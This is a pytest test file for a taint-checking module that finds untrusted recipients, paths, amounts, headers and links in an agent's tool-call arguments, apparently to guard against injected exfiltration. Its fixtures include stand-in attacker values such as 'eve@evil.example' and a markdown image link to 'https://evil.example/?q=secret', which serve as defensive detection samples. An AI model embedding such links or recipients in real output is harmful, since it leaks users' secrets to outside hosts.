"""Tests of taint: what nobody trusted said, and no grant fixes, is found, wherever in the arguments it stands."""

from __future__ import annotations

import pytest

from handshake.kernel.grant_settings import MAX_SINK_VALUES
from handshake.kernel.taint import Finding, FindingKind, Taint, is_said, links_in, unbounded_sinks
from tests.requirement import requirement


@pytest.mark.parametrize(
    ("value", "text", "expected"),
    [
        ("ab", "ab", True),
        ("ab", " ab\n", True),
        ("ab", "send it to ab", False),
        ("bob@example.org", "Send it to bob@example.org, please.", True),
        ("bob@example.org", "Send it to bob@example.org.", True),
        ("bob@example.org", "Send it to <bob@example.org>", True),
        ("bob@example.org", "Send it to bob@example.org.evil.example", False),
        ("example.org", "Ask notexample.org", False),
        ("example.org", "Ask bob@example.org", False),
        ("docs/out.md", "Write docs/out.md", True),
        ("docs/out.md", "Write docs/out.md/x", False),
        ("out.md/x", "Write docs/out.md/x", False),
        ("docs/out.md", "not docs/out.md5 but docs/out.md!", True),
        ("100000", "Pay 1100000", False),
        ("100000", "Pay 100000 now", True),
        ("", "anything", False),
        ("caf\u00e9.example", "xcaf\u00e9.example", False),
        ("aaaaaa", "a" * 5_000, False),
    ],
)
def test_a_value_is_said_if_it_is_the_text_or_stands_in_it_whole(value: str, text: str, expected: bool) -> None:
    assert is_said(value, [text]) is expected


@requirement("trust.taint.asks_for_unbounded")
def test_every_sink_that_nobody_bounds_is_found() -> None:
    args = {
        "to": ["bob@example.org", "eve@evil.example"],
        "path": "docs/out.md",
        "amount": 100,
        "body": "Hello",
        "cc": None,
    }
    found = unbounded_sinks(
        ["/to", "/path", "/amount", "/absent", "/cc"], ["/body"], args, fixed={"/path"},
        trusted_texts=["Send the summary to bob@example.org"],
    )  # fmt: skip
    assert found == (Finding("/to", FindingKind.SINK, "eve@evil.example"), Finding("/amount", FindingKind.SINK, "100"))


@requirement("trust.taint.asks_for_unbounded")
def test_names_and_values_of_nested_sinks_are_looked_at() -> None:
    args = {"headers": {"x-evil-header": "evil-value"}}
    found = unbounded_sinks(["/headers"], [], args, fixed=(), trusted_texts=[])
    assert [one.value for one in found] == ["x-evil-header", "evil-value"]


@requirement("trust.taint.asks_for_unbounded")
def test_links_inside_content_are_looked_at() -> None:
    args = {"body": "See https://docs.example.org/a and ![x](https://evil.example/?q=secret)."}
    found = unbounded_sinks([], ["/body"], args, fixed=(), trusted_texts=["Link https://docs.example.org/a"])
    assert found == (Finding("/body", FindingKind.LINK, "https://evil.example/?q=secret"),)


def test_a_sink_of_too_many_values_is_never_bounded() -> None:
    found = unbounded_sinks([""], [], ["trusted"] * (MAX_SINK_VALUES + 1), fixed=(), trusted_texts=["trusted"])
    assert len(found) == 1


@pytest.mark.parametrize(
    ("text", "links"),
    [
        ("no link // here", []),
        ("HTTP://a.example/x, then", ["HTTP://a.example/x"]),
        ('<img src="//a.example/x.png">', ["//a.example/x.png"]),
        ("[a](www.a.example) MAILTO:eve@a.example", ["www.a.example", "MAILTO:eve@a.example"]),
        ("ftp://a.example\u0130https://b.example", ["ftp://a.example\u0130https://b.example"]),
        ("\u0130\u0130 https://b.example", ["https://b.example"]),
        ("a https://a.example\nhttps://b.example", ["https://a.example", "https://b.example"]),
        ("http://", []),
        ("see https: and http:", []),
        ("[a](https:/evil.example)", ["https:/evil.example"]),
    ],
)
def test_links_are_found_in_every_common_form(text: str, links: list[str]) -> None:
    assert list(links_in(text)) == links


def test_a_run_is_tainted_if_something_tainted_it() -> None:
    assert not Taint()
    assert Taint(("m",))
